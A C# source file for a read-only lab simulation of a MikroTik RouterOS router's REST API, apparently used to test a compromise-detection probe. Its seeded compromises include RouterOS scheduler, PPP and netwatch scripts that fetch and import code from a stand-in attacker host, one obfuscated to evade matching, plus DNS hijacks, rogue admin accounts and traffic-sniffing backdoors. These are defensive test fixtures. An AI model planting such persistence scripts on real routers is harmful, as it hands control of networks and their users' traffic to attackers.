using System.Globalization;
using System.Net;
using System.Security.Cryptography;
using System.Text;
using System.Text.Encodings.Web;
using System.Text.Json;
using Microsoft.AspNetCore.Builder;
using Microsoft.AspNetCore.Http;
using Row = FlaxGuard.Lab.Twins.RouterOs.RouterOsTwinState.Row;

namespace FlaxGuard.Lab.Twins.RouterOs;

/// <summary>
/// A MikroTik router running RouterOS 7 (an RB5009 on 7.20.8 long-term), reached over the REST API of its www
/// service, as strict as the real one where the probe can tell: HTTP Basic only (401 with a Basic challenge and
/// RouterOS's JSON error body), the www service's "address" list enforced (a client outside it has its connection
/// dropped, as RouterOS does), JSON answers labelled application/json with every value a string and members in
/// RouterOS's alphabetical order, ".id" values that renumber on reboot and reorder, GET of a missing item 404
/// {"error":404,"message":"Not Found"}, an unknown menu 400 "no such command or directory", ".proplist" and
/// equality filters in the query string. The twin is read-only: other methods get 400. The login user given to
/// <see cref="StartAsync"/> is the built-in "admin" (group full) when so named, else a read-only account next to it.
/// <para>Compromises: the advisory ones and <see cref="TwinChanges.RouterOsCompromises"/>. wan-admin clears the address lists of
/// www, ssh and winbox (RouterOS has no "remote management" switch: a service open to any address is how a
/// router's admin interface ends up on the internet). Churn: reboot, counters, time, dhcp-leases, reorder,
/// whitespace-case, dynamic-entries (an OSPF route, a DHCP DNS name, L2TP's IPsec peer, hotspot mangle/raw rules,
/// address-list entries with a timeout that come and expire, an IPv6 route from a router advertisement).
/// "session" is not supported: REST over Basic has no session to renew. Menus in
/// <see cref="RouterOsTwinState.AbsentMenus"/>, and /container while its package is disabled, answer 400 "no such
/// command or directory" as an older release or a missing package does.</para>
/// </summary>
public sealed class RouterOsTwin : ILabTwin
{
    public const string Realm = "RouterOS";

    private static readonly JsonWriterOptions WriterOptions = new() { Encoder = JavaScriptEncoder.UnsafeRelaxedJsonEscaping };

    private readonly WebApplication _app;
    private readonly object _gate = new();
    private RouterOsTwinState? _state;
    private readonly string _user;
    private readonly string _password;
    private int _requests;

    private RouterOsTwin(WebApplication app, string user, string password)
    {
        _app = app;
        _user = user;
        _password = password;
    }

    public string Profile => "routeros";

    public Uri BaseUri { get; private set; } = null!;

    public IPAddress Address { get; private set; } = IPAddress.None;

    public int Port { get; private set; }

    public IReadOnlyList<string> SupportedChanges { get; } =
        [.. TwinChanges.RouterCompromises, .. TwinChanges.RouterOsCompromises, TwinChanges.Reboot, TwinChanges.Counters, TwinChanges.Time, TwinChanges.DhcpLeases, TwinChanges.Reorder, TwinChanges.WhitespaceCase,
         .. TwinChanges.RouterOsChurn];

    /// <summary>How the next REST answers misbehave; <see cref="RouterOsHostility.None"/> for a well-behaved router.</summary>
    public RouterOsHostility Hostility { get; set; }

    /// <summary>The menu (e.g. "/ip/service") that misbehaves; null for every menu.</summary>
    public string? HostileMenu { get; set; }

    /// <summary>HTTP requests answered (any status).</summary>
    public int Requests => Volatile.Read(ref _requests);

    public static async Task<RouterOsTwin> StartAsync(IPAddress address, int port, string user, string password, CancellationToken ct)
    {
        ArgumentNullException.ThrowIfNull(address);
        if (string.IsNullOrEmpty(user) || user.Contains(':')) throw new ArgumentException("the user name must be non-empty without ':'", nameof(user));
        ArgumentNullException.ThrowIfNull(password);
        var app = LoopbackHost.Build(address, port);
        var twin = new RouterOsTwin(app, user, password);
        app.Run(twin.HandleAsync);
        await app.StartAsync(ct);
        twin.Address = address;
        twin.Port = LoopbackHost.BoundPort(app);
        twin.BaseUri = LoopbackHost.BaseUri(address, twin.Port);
        lock (twin._gate) twin._state = new RouterOsTwinState(twin.Port, user, password);
        return twin;
    }

    public void Reset()
    {
        lock (_gate)
        {
            State.Reset();
            Hostility = RouterOsHostility.None;
            HostileMenu = null;
        }
    }

    public void Apply(string change)
    {
        lock (_gate)
        {
            var s = State;
            switch (change)
            {
                case TwinChanges.NewAdmin:
                    s.Users.Add(new Row(NextSerial(s.Users), ("name", "support"), ("group", "full"), ("address", ""), ("disabled", "false"), ("expired", "false"), ("comment", "")));
                    s.Passwords["support"] = "lab-support-pw";
                    break;
                case TwinChanges.SshKeyAdded:
                    s.SshKeys.Add(RouterOsTwinState.SshKeyRow(NextSerial(s.SshKeys), s.AdminUser, "rsa", "2048", RouterOsTwinState.RsaBlob(7), "root@" + RouterOsTwinState.AttackerHost));
                    break;
                case TwinChanges.DnsChanged:
                    s.Dns["servers"] = RouterOsTwinState.AttackerHost;
                    break;
                case TwinChanges.WanAdmin:
                    foreach (var service in s.Services.Where(r => r["name"] is "www" or "ssh" or "winbox")) service["address"] = "";
                    break;
                case TwinChanges.TelnetEnabled:
                    var telnet = s.Services.Single(r => r["name"] == "telnet");
                    telnet["disabled"] = "false";
                    telnet["address"] = "";
                    break;
                case TwinChanges.PortForward:
                    s.Nat.Add(new Row(NextSerial(s.Nat), ("chain", "dstnat"), ("action", "dst-nat"), ("protocol", "tcp"), ("dst-port", "2323"), ("in-interface", "ether1"),
                        ("to-addresses", "100.64.88.7"), ("to-ports", "23"), ("disabled", "false"), ("dynamic", "false"), ("invalid", "false"), ("log", "false"), ("log-prefix", ""), ("comment", "")));
                    break;
                case TwinChanges.SchedulerFetch:
                    s.Scripts.Add(new Row(NextSerial(s.Scripts), ("name", "sys-update"), ("owner", s.AdminUser), ("policy", "ftp,reboot,read,write,policy,test,password,sniff,sensitive,romon"),
                        ("dont-require-permissions", "true"), ("source", $":do {{ /tool fetch url=\"http://{RouterOsTwinState.AttackerHost}/u.rsc\" dst-path=u.rsc; /import u.rsc }} on-error={{}}"),
                        ("invalid", "false"), ("comment", "")));
                    s.Schedulers.Add(new Row(NextSerial(s.Schedulers), ("name", "sys-update"), ("start-date", "2026-01-01"), ("start-time", "startup"), ("interval", "00:05:00"),
                        ("on-event", "/system script run sys-update"), ("owner", s.AdminUser), ("policy", "ftp,reboot,read,write,policy,test,password,sniff,sensitive,romon"), ("disabled", "false"), ("comment", "")));
                    break;
                case TwinChanges.SocksProxy:
                    s.Socks["enabled"] = "true";
                    s.Socks["port"] = "4153";
                    s.Socks["version"] = "5";
                    break;
                case TwinChanges.FirmwareDowngrade:
                    s.Version = "7.19.6 (stable)";
                    s.BuildTime = "2025-09-17 08:13:33";
                    break;
                case TwinChanges.FirmwareUnknown:
                    // Same version string, a build MikroTik never published.
                    s.BuildTime = "2026-02-29 23:59:59";
                    break;
                case TwinChanges.DnsStatic:
                    s.DnsStatic.Add(new Row(NextSerial(s.DnsStatic), ("name", "www.bank.example"), ("address", RouterOsTwinState.AttackerHost), ("type", "A"), ("ttl", "1d"), ("disabled", "false"), ("dynamic", "false")));
                    break;
                case TwinChanges.FirewallOpened:
                    // Ahead of the defconf drop: Winbox and the API from anywhere.
                    s.Filter.Insert(0, RouterOsTwinState.FilterRow(NextSerial(s.Filter), ("chain", "input"), ("action", "accept"), ("protocol", "tcp"), ("dst-port", "8291,8728"), ("comment", "")));
                    Renumber(s);
                    break;
                case TwinChanges.NatRedirect:
                    // Meris-style: every DNS query from the LAN answered by the attacker's resolver.
                    s.Nat.Add(new Row(NextSerial(s.Nat), ("chain", "dstnat"), ("action", "redirect"), ("protocol", "udp"), ("dst-port", "53"), ("to-ports", "53"), ("in-interface", "bridge"),
                        ("disabled", "false"), ("dynamic", "false"), ("invalid", "false"), ("log", "false"), ("log-prefix", ""), ("comment", "")));
                    s.Nat.Add(new Row(NextSerial(s.Nat), ("chain", "srcnat"), ("action", "src-nat"), ("to-addresses", RouterOsTwinState.AttackerHost), ("protocol", "tcp"), ("dst-port", "25"),
                        ("disabled", "false"), ("dynamic", "false"), ("invalid", "false"), ("log", "false"), ("log-prefix", ""), ("comment", "")));
                    break;
                case TwinChanges.AdminPromoted:
                    s.Users.Single(u => u["name"] == "viewer")["group"] = "full";
                    break;
                case TwinChanges.GroupEscalated:
                    // A new group with every policy, and a read-only account moved into it.
                    s.Groups.Add(new Row(NextSerial(s.Groups), ("name", "mgmt"), ("policy", "local,telnet,ssh,ftp,reboot,read,write,policy,test,winbox,password,web,sniff,sensitive,api,romon,rest-api"),
                        ("skin", "default"), ("comment", "")));
                    s.Users.Single(u => u["name"] == "viewer")["group"] = "mgmt";
                    break;
                case TwinChanges.FileDropped:
                    s.Files.Add(RouterOsTwinState.FileRow(NextSerial(s.Files), "flash/routeros-arm64-7.20.8.npk", "package", null));
                    s.Files.Add(RouterOsTwinState.FileRow(NextSerial(s.Files), "flash/dns.auto.rsc", "script", "/ip dns set servers=" + RouterOsTwinState.AttackerHost + "\n"));
                    break;
                case TwinChanges.EventScriptFetch:
                    // A PPP profile's on-up script: runs whenever a PPP (PPPoE, L2TP, SSTP) link comes up, outside the scheduler.
                    s.PppProfiles.First(p => p["name"] == "default")["on-up"] =
                        $"/tool fetch url=\"http://{RouterOsTwinState.AttackerHost}/u.rsc\" dst-path=u.rsc\n/import u.rsc";
                    break;
                case TwinChanges.LeaseScript:
                    // A DHCP server's lease script: runs on every lease a LAN client gets (a hidden hook, even without a download).
                    s.DhcpServers.First(d => d["name"] == "defconf")["lease-script"] = ":if ($leaseBound = 1) do={ /ip firewall address-list add list=seen address=$leaseActIP }";
                    break;
                case TwinChanges.NetwatchFetch:
                    s.Netwatch.Add(new Row(NextSerial(s.Netwatch), ("host", "198.51.100.1"), ("type", "simple"), ("interval", "10m"), ("timeout", "1s"),
                        ("up-script", $"/tool fetch url=\"https://{RouterOsTwinState.AttackerHost}/s\" output=none"), ("down-script", ""), ("test-script", ""),
                        ("disabled", "false"), ("status", "up"), ("since", ""), ("comment", "")));
                    break;
                case TwinChanges.FetchObfuscated:
                    // The URL in pieces, kept in a variable: no "http://" and no host appear in one piece.
                    s.Schedulers.Add(new Row(NextSerial(s.Schedulers), ("name", "ntp-sync"), ("start-date", "2026-01-01"), ("start-time", "startup"), ("interval", "01:00:00"),
                        ("on-event", ":local u (\"ht\" . \"tp:/\" . \"/evil\" . \".example/a\"); :local c (\"/tool/fe\".\"tch\"); [:parse \"$c url=$u dst-path=a.rsc\"]"),
                        ("owner", s.AdminUser), ("policy", "ftp,read,write,policy,test"), ("disabled", "false"), ("comment", "")));
                    break;
                case TwinChanges.FetchImported:
                    // The scheduler only imports a file; the file does the download.
                    s.Files.Add(RouterOsTwinState.FileRow(NextSerial(s.Files), "flash/upd.rsc", "script", $"/tool fetch url=\"http://{RouterOsTwinState.AttackerHost}/stage2.rsc\"\n/import stage2.rsc\n"));
                    s.Schedulers.Add(new Row(NextSerial(s.Schedulers), ("name", "upd"), ("start-date", "2026-01-01"), ("start-time", "startup"), ("interval", "00:30:00"),
                        ("on-event", "/import file-name=flash/upd.rsc"), ("owner", s.AdminUser), ("policy", "ftp,read,write,policy,test"), ("disabled", "false"), ("comment", "")));
                    break;
                case TwinChanges.RemoteLog:
                    var siem = s.LoggingActions.Single(a => a["name"] == "siem");
                    siem["remote"] = RouterOsTwinState.AttackerHost;
                    siem["remote-port"] = "5514";
                    break;
                case TwinChanges.VpnAccount:
                    s.PptpServer["enabled"] = "true";
                    s.PppSecrets.Add(new Row(NextSerial(s.PppSecrets), ("name", "vpnuser"), ("service", "any"), ("profile", "default"), ("remote-address", ""), ("password", "lab-x"),
                        ("caller-id", ""), ("routes", ""), ("disabled", "false"), ("last-logged-out", "")));
                    break;
                case TwinChanges.WireGuardPeer:
                    s.WireGuardPeers.Add(new Row(NextSerial(s.WireGuardPeers), ("interface", "wg-home"), ("public-key", Convert.ToBase64String(RouterOsTwinState.LabBytes("wg", 9, 32))),
                        ("allowed-address", "0.0.0.0/0"), ("endpoint-address", RouterOsTwinState.AttackerHost), ("endpoint-port", "51820"), ("preshared-key", ""), ("persistent-keepalive", "25s"),
                        ("disabled", "false"), ("dynamic", "false"), ("rx", "0"), ("tx", "0"), ("last-handshake", ""), ("current-endpoint-address", ""), ("current-endpoint-port", "0")));
                    break;
                case TwinChanges.DdnsOn:
                    s.Cloud["ddns-enabled"] = "yes";
                    break;
                case TwinChanges.UpnpOn:
                    s.Upnp["enabled"] = "true";
                    break;
                case TwinChanges.SnmpWrite:
                    s.SnmpCommunities.Add(new Row(NextSerial(s.SnmpCommunities), ("name", "m1cr0s0ft"), ("addresses", "::/0"), ("read-access", "true"), ("write-access", "true"), ("security", "none"),
                        ("authentication-password", ""), ("encryption-password", ""), ("disabled", "false"), ("default", "false")));
                    break;
                case TwinChanges.TunnelClient:
                    // Meris: an L2TP client named "lvpn" to the operators' server.
                    s.L2tpClients.Add(new Row(NextSerial(s.L2tpClients), ("name", "lvpn"), ("connect-to", RouterOsTwinState.AttackerHost), ("user", "lvpn"), ("password", "x"),
                        ("profile", "default-encryption"), ("disabled", "false"), ("running", "true")));
                    break;
                case TwinChanges.TunnelLink:
                    s.GreTunnels.Add(new Row(NextSerial(s.GreTunnels), ("name", "gre-tunnel1"), ("remote-address", RouterOsTwinState.AttackerHost), ("mtu", "auto"),
                        ("disabled", "false"), ("running", "true")));
                    break;
                case TwinChanges.RomonOn:
                    s.Romon["enabled"] = "true";
                    s.Romon["id"] = "4c:5e:0c:11:22:33";
                    break;
                case TwinChanges.SnifferStream:
                    s.Sniffer["streaming-enabled"] = "true";
                    s.Sniffer["streaming-server"] = RouterOsTwinState.AttackerHost + ":37008";
                    s.Sniffer["running"] = "true";
                    break;
                case TwinChanges.DeviceFlagged:
                    s.DeviceMode["flagged"] = "true";
                    break;
                case TwinChanges.InstallDamaged:
                    s.InstallationStatus = "installation is damaged";
                    break;
                case TwinChanges.PackageMismatch:
                    s.Packages.Add(new Row(NextSerial(s.Packages), ("name", "extra-nic"), ("version", "6.49.1"), ("build-time", "2021-01-01 00:00:00"), ("scheduled", ""), ("disabled", "false"), ("available", "false"), ("size", "40960")));
                    break;
                case TwinChanges.ServiceOpened:
                    foreach (var service in s.Services.Where(r => r["name"] is "api" or "ftp"))
                    {
                        service["disabled"] = "false";
                        service["address"] = "";
                    }
                    break;
                case TwinChanges.WebProxyOpen:
                    // TrickBot's and Glupteba's MikroTik relays: the web proxy on, no access rule.
                    s.Proxy["enabled"] = "true";
                    break;
                case TwinChanges.DhcpDnsPushed:
                    s.DhcpNetworks[0]["dns-server"] = RouterOsTwinState.AttackerHost;
                    break;
                case TwinChanges.RawBypass:
                    // Untracked Winbox traffic meets defconf's "accept established,related,untracked" first.
                    s.Raw.Insert(0, RouterOsTwinState.FilterRow(NextSerial(s.Raw), ("chain", "prerouting"), ("action", "notrack"), ("protocol", "tcp"), ("dst-port", "8291"), ("comment", "")));
                    Renumber(s);
                    break;
                case TwinChanges.MangleRoute:
                    s.Mangle.Add(RouterOsTwinState.FilterRow(NextSerial(s.Mangle), ("chain", "prerouting"), ("action", "mark-routing"), ("src-address", "100.64.88.0/24"),
                        ("new-routing-mark", "via-tunnel"), ("passthrough", "false"), ("comment", "")));
                    break;
                case TwinChanges.DefaultRoute:
                    s.Routes.Add(RouterOsTwinState.RouteRow(NextSerial(s.Routes), "0.0.0.0/0", RouterOsTwinState.AttackerHost, dynamic: false));
                    break;
                case TwinChanges.RoutingRule:
                    s.RoutingRules.Add(new Row(NextSerial(s.RoutingRules), ("src-address", "100.64.88.0/24"), ("action", "lookup-only-in-table"), ("table", "exfil"),
                        ("disabled", "false"), ("inactive", "false"), ("comment", "")));
                    break;
                case TwinChanges.MacOpen:
                    s.MacServer["allowed-interface-list"] = "all";
                    s.MacWinbox["allowed-interface-list"] = "all";
                    break;
                case TwinChanges.BandwidthTestOpen:
                    s.BandwidthServer["authenticate"] = "false";
                    break;
                case TwinChanges.SmbOn:
                    s.Smb["enabled"] = "yes";
                    break;
                case TwinChanges.FlowExport:
                    s.TrafficFlow["enabled"] = "true";
                    s.FlowTargets.Add(new Row(NextSerial(s.FlowTargets), ("dst-address", RouterOsTwinState.AttackerHost), ("port", "2055"), ("src-address", "0.0.0.0"),
                        ("version", "9"), ("v9-template-refresh", "20"), ("v9-template-timeout", "30m"), ("disabled", "false")));
                    break;
                case TwinChanges.IpsecPeer:
                    s.IpsecPeers.Add(new Row(NextSerial(s.IpsecPeers), ("name", "peer-x"), ("address", RouterOsTwinState.AttackerHost + "/32"), ("exchange-mode", "ike2"),
                        ("profile", "default"), ("passive", "false"), ("send-initial-contact", "true"), ("disabled", "false"), ("dynamic", "false"), ("responder", "false")));
                    s.IpsecIdentities.Add(new Row(NextSerial(s.IpsecIdentities), ("peer", "peer-x"), ("auth-method", "pre-shared-key"), ("secret", "lab-ipsec-secret"),
                        ("generate-policy", "port-strict"), ("my-id", "auto"), ("remote-id", "auto"), ("disabled", "false"), ("dynamic", "false")));
                    break;
                case TwinChanges.ContainerAdded:
                    s.Packages.Single(p => p["name"] == "container")["disabled"] = "false";
                    s.Containers.Add(new Row(NextSerial(s.Containers), ("name", "sys"), ("tag", "evil/socks:latest"), ("remote-image", "docker.io/evil/socks:latest"), ("file", ""),
                        ("root-dir", "usb1/sys"), ("interface", "veth1"), ("status", "running"), ("os", "linux"), ("arch", "arm64"), ("start-on-boot", "true")));
                    break;
                case TwinChanges.TrustedCa:
                    s.Certificates.Add(RouterOsTwinState.CertificateRow(NextSerial(s.Certificates), "imported-ca", "Secure Root", authority: true, trusted: true));
                    break;
                case TwinChanges.LoggingHidden:
                    s.LoggingRules.Single(r => r["topics"] == "info")["disabled"] = "true";
                    s.LoggingRules.RemoveAll(r => r["action"] == "siem");
                    break;
                case TwinChanges.PasswordPolicy:
                    s.UserSettings["minimum-password-length"] = "0";
                    s.UserSettings["minimum-categories"] = "0";
                    break;
                case TwinChanges.AddressListTrusted:
                    s.AddressLists.Add(RouterOsTwinState.AddressListRow(NextSerial(s.AddressLists), "mgmt", RouterOsTwinState.AttackerHost, dynamic: false, ""));
                    break;
                case TwinChanges.AddressList6Trusted:
                    s.AddressLists6.Add(RouterOsTwinState.AddressListRow(NextSerial(s.AddressLists6), "mgmt6", "2001:db8:66::/48", dynamic: false, ""));
                    break;
                case TwinChanges.Firewall6Opened:
                    // Ahead of defconf's drop: SSH and Winbox over IPv6 from anywhere, where an IPv4-only check would not look.
                    s.Filter6.Insert(0, RouterOsTwinState.FilterRow(NextSerial(s.Filter6), ("chain", "input"), ("action", "accept"), ("protocol", "tcp"), ("dst-port", "22,8291"), ("comment", "")));
                    Renumber(s);
                    break;
                case TwinChanges.Nat6Redirect:
                    s.Nat6.Add(RouterOsTwinState.FilterRow(NextSerial(s.Nat6), ("chain", "dstnat"), ("action", "redirect"), ("protocol", "udp"), ("dst-port", "53"), ("to-ports", "53"),
                        ("in-interface", "bridge"), ("comment", "")));
                    break;
                case TwinChanges.DefaultRoute6:
                    s.Routes6.Add(RouterOsTwinState.RouteRow(NextSerial(s.Routes6), "::/0", "2001:db8:66::1", dynamic: false));
                    break;
                case TwinChanges.SshForwarding:
                    s.Ssh["forwarding-enabled"] = "both";
                    break;
                case TwinChanges.SshWeakened:
                    s.Ssh["always-allow-password-login"] = "true";
                    break;
                case TwinChanges.RadiusLogin:
                    // The secret is in the row and must never be read.
                    s.RadiusServers.Add(new Row(NextSerial(s.RadiusServers), ("address", RouterOsTwinState.AttackerHost), ("service", "login"), ("secret", "lab-radius-secret"),
                        ("authentication-port", "1812"), ("accounting-port", "1813"), ("timeout", "300ms"), ("src-address", "0.0.0.0"), ("protocol", "udp"), ("disabled", "false")));
                    s.UserAaa["use-radius"] = "true";
                    s.UserAaa["default-group"] = "full";
                    break;
                case TwinChanges.OpenResolver:
                    s.Dns["allow-remote-requests"] = "true";
                    break;
                case TwinChanges.NtpServer:
                    s.NtpClient["servers"] = RouterOsTwinState.AttackerHost;
                    break;
                case TwinChanges.DynamicEntries:
                    // What RouterOS adds by itself: an OSPF route, a DHCP lease's DNS name, L2TP's IPsec peer, a hotspot's mangle and raw rules.
                    s.Routes.Add(RouterOsTwinState.RouteRow(NextSerial(s.Routes), "100.70.0.0/16", "100.64.88.254", dynamic: true));
                    s.DnsStatic.Add(new Row(NextSerial(s.DnsStatic), ("name", "tablet.lan"), ("address", "100.64.88.61"), ("type", "A"), ("ttl", "10m"), ("disabled", "false"), ("dynamic", "true")));
                    s.IpsecPeers.Add(new Row(NextSerial(s.IpsecPeers), ("name", "l2tp-in-server"), ("address", "::/0"), ("exchange-mode", "main"), ("passive", "true"),
                        ("profile", "default"), ("disabled", "false"), ("dynamic", "true")));
                    s.IpsecIdentities.Add(new Row(NextSerial(s.IpsecIdentities), ("peer", "l2tp-in-server"), ("auth-method", "pre-shared-key"), ("secret", "lab-l2tp-psk"),
                        ("generate-policy", "port-strict"), ("disabled", "false"), ("dynamic", "true")));
                    s.Mangle.Add(RouterOsTwinState.FilterRow(NextSerial(s.Mangle), ("chain", "prerouting"), ("action", "mark-routing"), ("new-routing-mark", "hs-auth"), ("dynamic", "true"), ("comment", "hotspot")));
                    s.Raw.Add(RouterOsTwinState.FilterRow(NextSerial(s.Raw), ("chain", "prerouting"), ("action", "accept"), ("in-interface", "hs-bridge"), ("dynamic", "true"), ("comment", "hotspot")));
                    s.Routes.RemoveAll(r => r["dst-address"] == "100.64.88.0/24" && r["dynamic"] == "true");
                    // Port-scan and brute-force lists filled by the router's own rules, with a timeout; the old entry expired.
                    s.AddressLists.RemoveAll(r => r["list"] == "port-scanners");
                    s.AddressLists.Add(RouterOsTwinState.AddressListRow(NextSerial(s.AddressLists), "port-scanners", "198.51.100.123", dynamic: true, ""));
                    s.AddressLists.Add(RouterOsTwinState.AddressListRow(NextSerial(s.AddressLists), "mgmt", "100.64.88.77", dynamic: true, "added by a login script"));
                    s.AddressLists6.Add(RouterOsTwinState.AddressListRow(NextSerial(s.AddressLists6), "ssh-bruteforce6", "2001:db8:99::5", dynamic: true, ""));
                    // A router advertisement brought another IPv6 route.
                    s.Routes6.Add(RouterOsTwinState.RouteRow(NextSerial(s.Routes6), "2001:db8:77::/48", "fe80::2%ether1", dynamic: true));
                    break;
                case TwinChanges.UnlistedPackage:
                    // A package of the running version under a name MikroTik does not publish (a third-party .npk).
                    s.Packages.Add(new Row(NextSerial(s.Packages), ("name", "socksify"), ("version", s.ShortVersion), ("build-time", "2026-02-02 10:11:12"), ("scheduled", ""), ("disabled", "false"), ("available", "false"), ("size", "24576")));
                    break;
                case TwinChanges.Reboot:
                    s.Boot = s.Now - TimeSpan.FromSeconds(47) - s.ClockOffset;
                    s.CounterBase = 3;
                    Renumber(s);
                    break;
                case TwinChanges.Counters:
                    s.CounterBase = s.CounterBase * 7 + 123_457;
                    break;
                case TwinChanges.Time:
                    s.ClockOffset += TimeSpan.FromHours(5) + TimeSpan.FromMinutes(17);
                    break;
                case TwinChanges.DhcpLeases:
                    s.Leases.RemoveAt(0);
                    s.Leases.Add(RouterOsTwinState.LeaseRow(NextSerial(s.Leases), "100.64.88." + (60 + s.Leases.Count), "AA:BB:CC:00:01:0" + s.Leases.Count, "tablet"));
                    // A renewed WAN lease can bring the provider's other resolver.
                    s.Dns["dynamic-servers"] = s.Dns["dynamic-servers"] == "198.51.100.1" ? "198.51.100.2" : "198.51.100.1";
                    foreach (var route in s.Routes.Where(r => r["dynamic"] == "true" && r["dst-address"] == "0.0.0.0/0")) route["gateway"] = s.Dns["dynamic-servers"];
                    break;
                case TwinChanges.Reorder:
                    foreach (var list in Lists(s)) list.Reverse();
                    Renumber(s);
                    break;
                case TwinChanges.WhitespaceCase:
                    s.Sloppy = true;
                    break;
                case TwinChanges.Session:
                    throw new NotSupportedException("RouterOS REST authenticates every request with HTTP Basic; there is no session to renew or expire.");
                default:
                    throw new NotSupportedException($"the RouterOS twin has no change named '{change}'");
            }
            s.Generation++;
        }
    }

    /// <summary>Sets a service's "address" list as /ip/service set would (lab use: prove the twin drops clients outside it).</summary>
    public void SetServiceAddress(string service, string addresses)
    {
        lock (_gate)
        {
            State.Services.Single(r => r["name"] == service)["address"] = addresses;
            State.Generation++;
        }
    }

    /// <summary>Changes the state directly (lab use: a large office configuration); answers follow on the next request.</summary>
    public void Mutate(Action<RouterOsTwinState> change)
    {
        lock (_gate)
        {
            change(State);
            State.Generation++;
        }
    }

    private RouterOsTwinState State => _state ?? throw new InvalidOperationException("the twin has not started");

    private static int NextSerial(List<Row> rows) => rows.Count == 0 ? 1 : rows.Max(r => r.Serial) + 1;

    private static IEnumerable<List<Row>> Lists(RouterOsTwinState s) =>
        [s.Packages, s.Users, s.SshKeys, s.Services, s.Nat, s.Scripts, s.Schedulers, s.Leases, s.Groups, s.DnsStatic, s.Filter, s.Files, s.Netwatch, s.LoggingActions,
         s.PppSecrets, s.WireGuardPeers, s.SnmpCommunities, s.OvpnServers, s.SstpClients, s.L2tpClients, s.EoipTunnels, s.GreTunnels,
         s.DhcpNetworks, s.Mangle, s.Raw, s.Routes, s.RoutingRules, s.ProxyAccess, s.SocksAccess, s.FlowTargets, s.IpsecPeers, s.IpsecIdentities, s.Containers, s.Certificates, s.LoggingRules,
         s.AddressLists, s.AddressLists6, s.Filter6, s.Nat6, s.Routes6, s.RadiusServers];

    /// <summary>RouterOS hands out new internal ids after a reboot or a move: same items, other ".id" values.</summary>
    private static void Renumber(RouterOsTwinState s)
    {
        s.IdShift += 0x10;
        foreach (var list in Lists(s))
            for (var i = 0; i < list.Count; i++) list[i].Serial = i + 1;
    }

    private async Task HandleAsync(HttpContext context)
    {
        Interlocked.Increment(ref _requests);
        RouterOsHostility hostility;
        string? hostileMenu;
        lock (_gate)
        {
            if (_state is null || !WwwAllows(_state, context.Connection.RemoteIpAddress))
            {
                // RouterOS drops connections the www service does not allow, without a word.
                context.Abort();
                return;
            }
            hostility = Hostility;
            hostileMenu = HostileMenu;
        }

        var path = context.Request.Path.Value ?? "/";
        if (path != "/rest" && !path.StartsWith("/rest/", StringComparison.Ordinal))
        {
            context.Response.StatusCode = path == "/" ? 200 : 404;
            context.Response.ContentType = "text/html";
            await context.Response.WriteAsync(path == "/" ? "<html><head><title>RouterOS router configuration page</title></head><body>WebFig</body></html>" : "<html><body>Not Found</body></html>");
            return;
        }
        if (!Authorized(context.Request.Headers.Authorization.ToString()))
        {
            context.Response.Headers.WWWAuthenticate = $"Basic realm=\"{Realm}\"";
            await WriteError(context, 401, "Unauthorized", null);
            return;
        }
        var menu = path.Length > 5 ? path[5..].TrimEnd('/') : "";
        if (HttpMethods.IsPost(context.Request.Method) && menu == "/system/check-installation")
        {
            await CheckInstallation(context);
            return;
        }
        if (!HttpMethods.IsGet(context.Request.Method))
        {
            await WriteError(context, 400, "Bad Request", "the lab twin is read-only");
            return;
        }
        if (hostility != RouterOsHostility.None && (hostileMenu is null || hostileMenu == menu))
        {
            await Hostile(context, hostility, menu);
            return;
        }

        object? answer;
        lock (_gate) answer = Render(State, menu, context.Request.Query);
        switch (answer)
        {
            case null:
                var last = menu.Length == 0 ? "rest" : menu[(menu.LastIndexOf('/') + 1)..];
                await WriteError(context, 400, "Bad Request", $"no such command or directory ({last})");
                return;
            case NotFound:
                await WriteError(context, 404, "Not Found", null);
                return;
            default:
                await WriteJson(context, 200, Serialize(answer), "application/json");
                return;
        }
    }

    private sealed class NotFound;

    /// <summary>
    /// POST /rest/system/check-installation: a console command run through REST. Its body must be a JSON object of
    /// the command's arguments (the probe sends {"once":""}); the answer is a list with one result object, as monitor
    /// commands give. The status wording is the twin's (no published source shows RouterOS's).
    /// </summary>
    private async Task CheckInstallation(HttpContext context)
    {
        if (!MediaTypeIsJson(context.Request.ContentType))
        {
            await WriteError(context, 400, "Bad Request", "expected JSON body");
            return;
        }
        using var reader = new StreamReader(context.Request.Body, Encoding.UTF8);
        var text = await reader.ReadToEndAsync(context.RequestAborted);
        JsonDocument document;
        try
        {
            document = JsonDocument.Parse(text);
        }
        catch (JsonException)
        {
            await WriteError(context, 400, "Bad Request", "JSON parse error");
            return;
        }
        using (document)
        {
            if (document.RootElement.ValueKind != JsonValueKind.Object ||
                document.RootElement.EnumerateObject().Any(p => p.Name is not ("once" or "duration" or "interval" or ".proplist")))
            {
                await WriteError(context, 400, "Bad Request", "unknown parameter");
                return;
            }
        }
        string status;
        lock (_gate) status = State.InstallationStatus;
        await WriteJson(context, 200, Serialize(new List<SortedDictionary<string, string>> { Fields(("status", status)) }), "application/json");
    }

    private static bool MediaTypeIsJson(string? contentType) =>
        contentType is not null && contentType.Split(';')[0].Trim().Equals("application/json", StringComparison.OrdinalIgnoreCase);

    private bool Authorized(string header)
    {
        if (!header.StartsWith("Basic ", StringComparison.OrdinalIgnoreCase)) return false;
        byte[] raw;
        try
        {
            raw = Convert.FromBase64String(header[6..].Trim());
        }
        catch (FormatException)
        {
            return false;
        }
        string text;
        try
        {
            text = new UTF8Encoding(false, true).GetString(raw);
        }
        catch (DecoderFallbackException)
        {
            return false;
        }
        var colon = text.IndexOf(':');
        if (colon <= 0) return false;
        var user = text[..colon];
        var password = text[(colon + 1)..];
        lock (_gate)
        {
            var row = State.Users.FirstOrDefault(u => u["name"] == user);
            if (row is null || row["disabled"] == "true" || !State.Passwords.TryGetValue(user, out var expected)) return false;
            return CryptographicOperations.FixedTimeEquals(Encoding.UTF8.GetBytes(password), Encoding.UTF8.GetBytes(expected));
        }
    }

    private static bool WwwAllows(RouterOsTwinState s, IPAddress? remote)
    {
        var www = s.Services.FirstOrDefault(r => r["name"] == "www");
        if (www is null || www["disabled"] == "true") return false;
        var entries = www["address"].Split(',', StringSplitOptions.TrimEntries | StringSplitOptions.RemoveEmptyEntries);
        if (entries.Length == 0) return true;
        if (remote is null) return false;
        if (remote.IsIPv4MappedToIPv6) remote = remote.MapToIPv4();
        foreach (var entry in entries)
        {
            var text = entry.Contains('/') ? entry : entry + (entry.Contains(':') ? "/128" : "/32");
            if (IPNetwork.TryParse(text, out var network) && network.Contains(remote)) return true;
        }
        return false;
    }

    /// <summary>The menu as RouterOS prints it: a list, one settings object, <see cref="NotFound"/>, or null for no such menu.</summary>
